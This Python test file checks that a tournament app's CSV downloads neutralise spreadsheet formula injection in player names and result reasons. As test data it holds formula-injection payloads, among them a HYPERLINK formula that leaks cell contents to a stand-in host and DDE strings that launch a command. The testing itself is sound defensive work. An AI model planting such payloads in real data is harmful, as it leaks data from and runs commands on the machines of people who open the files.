"""The CSV downloads open safely in a spreadsheet (``tournaments.spreadsheets``): no text a
player typed runs as a formula, numbers stay numbers, Cyrillic reads right.

A display name like ``=HYPERLINK("http://evil.example/?"&A1,"x")`` is allowed at sign-up; in
each CSV the project writes (a stage's standings, the final standings, the results) it comes out
with a single quote in front, as does a name beginning with any other sign a spreadsheet runs.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client

from tests.api.test_events import finished_event, get
from tests.factories import PlayerFactory
from tournaments.models import Player, TableResult, Tournament
from tournaments.services.people import player_sign_up
from tournaments.spreadsheets import csv_bytes, safe_cell

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
#: A name beginning with each sign a spreadsheet runs (or skips before one).
PAYLOADS = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign, a formula to Excel in East Asian locales
]
HARMLESS = ["Иванов", "Пётр 'Туз'"]


# --- the helper -----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", PAYLOADS)
def test_text_beginning_like_a_formula_gets_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", [*HARMLESS, "a=b", "x; =1+1", "", "1e3"])
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_numbers_stay_numbers_and_a_negative_number_text_does_not() -> None:
    assert [safe_cell(v) for v in (-2.5, -3, Decimal("-1.500"), 0, True)] == [
        -2.5,
        -3,
        Decimal("-1.500"),
        0,
        True,
    ]
    assert safe_cell("-2.5") == "'-2.5"  # text: what a person typed, however it looks
    assert safe_cell(None) == ""
    data = csv_bytes([["name", "points"], ["-1", -2.5], [HYPERLINK, 3]])
    assert data.startswith("\ufeff".encode())
    text = data.decode("utf-8-sig")
    assert text.splitlines()[1] == "'-1,-2.5"  # the number written bare, as a number
    assert list(csv.reader(io.StringIO(text)))[2] == ["'" + HYPERLINK, "3"]


# --- every download -------------------------------------------------------------------------------


@pytest.fixture
def poisoned() -> tuple[Tournament, list[Player]]:
    """A finished event whose players' names (one signed up by itself) begin like formulas."""
    signed = player_sign_up(
        username="mallory",
        email="mallory@example.org",
        password="a long enough passphrase 42",
        display_name=HYPERLINK,
    )
    assert signed.display_name == HYPERLINK  # sign-up allows it
    others: list[Player] = [
        PlayerFactory.create(display_name=name) for name in [*PAYLOADS[1:], *HARMLESS]
    ]
    players = [signed, *others]
    event = finished_event(players[:8], name="Кубок формул")
    TableResult.objects.filter(table__round__stage__tournament=event).update(reason="=1+1 and more")
    return event, players


def download(client: Client, url: str) -> list[dict[str, Any]]:
    response = get(client, url)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())  # Excel reads the Cyrillic right
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def expected(name: str) -> str:
    return "'" + name if name in PAYLOADS else name


def test_standings_downloads_neutralise_every_name(
    client: Client, poisoned: tuple[Tournament, list[Player]]
) -> None:
    event, players = poisoned
    for url in (
        f"tournaments/{event.slug}/stages/1/standings.csv",
        f"tournaments/{event.slug}/standings.csv",
    ):
        lines = download(client, url)
        names = {line["name"] for line in lines}
        # every name is there, each payload with its quote, the others as they are
        assert names == {expected(p.display_name) for p in players[:8]}, url
        assert "'" + HYPERLINK in names
        # no cell at all begins like a formula
        for line in lines:
            for column, cell in line.items():
                assert not cell.startswith(("=", "+", "@", "\t", "\r", "\uff1d")), (column, cell)
                if column != "name":
                    assert not cell.startswith("'"), (column, cell)  # numbers stay numbers
        # and the numbers are numbers: points and pogony read as numbers
        for line in lines:
            if line.get("points"):
                float(line["points"])
            int(line["pogony_given"])
    # the final rows' new cells: the player's id, how it ended, the payout to the minor unit
    final = download(client, f"tournaments/{event.slug}/standings.csv")
    assert {int(line["player_id"]) for line in final} == {p.pk for p in players[:8]}
    assert {line["status"] for line in final} <= {"finished", "eliminated"}
    assert {line["currency"] for line in final} == {"RUB"}
    payouts = [line["payout"] for line in final if line["payout"]]
    assert payouts and all(re.fullmatch(r"[0-9]+\.[0-9]{2}", p) for p in payouts)


def test_the_results_download_neutralises_names_and_reasons(
    client: Client, poisoned: tuple[Tournament, list[Player]]
) -> None:
    event, players = poisoned
    lines = download(client, f"tournaments/{event.slug}/results.csv")
    assert lines
    for line in lines:
        assert line["reason"] == "'=1+1 and more"
        for column in ("places", "fool", "drawn", "pogony"):
            cell = line[column]
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), (column, cell)
        first = line["places"].split("; ")[0]
        assert first.lstrip("'") in {p.display_name for p in players} or first.startswith("'")
        int(line["id"])
    fools = {line["fool"] for line in lines if line["fool"]}
    assert fools and all(f in {expected(p.display_name) for p in players} for f in fools)
    # somewhere a result starts with a payload player: it carries the quote
    assert any(line["places"].startswith("'") for line in lines)


def test_the_json_downloads_keep_the_names_as_they_are(
    client: Client, poisoned: tuple[Tournament, list[Player]]
) -> None:
    event, players = poisoned
    rows = get(client, f"tournaments/{event.slug}/standings.json").json()
    assert {r["name"] for r in rows} == {p.display_name for p in players[:8]}
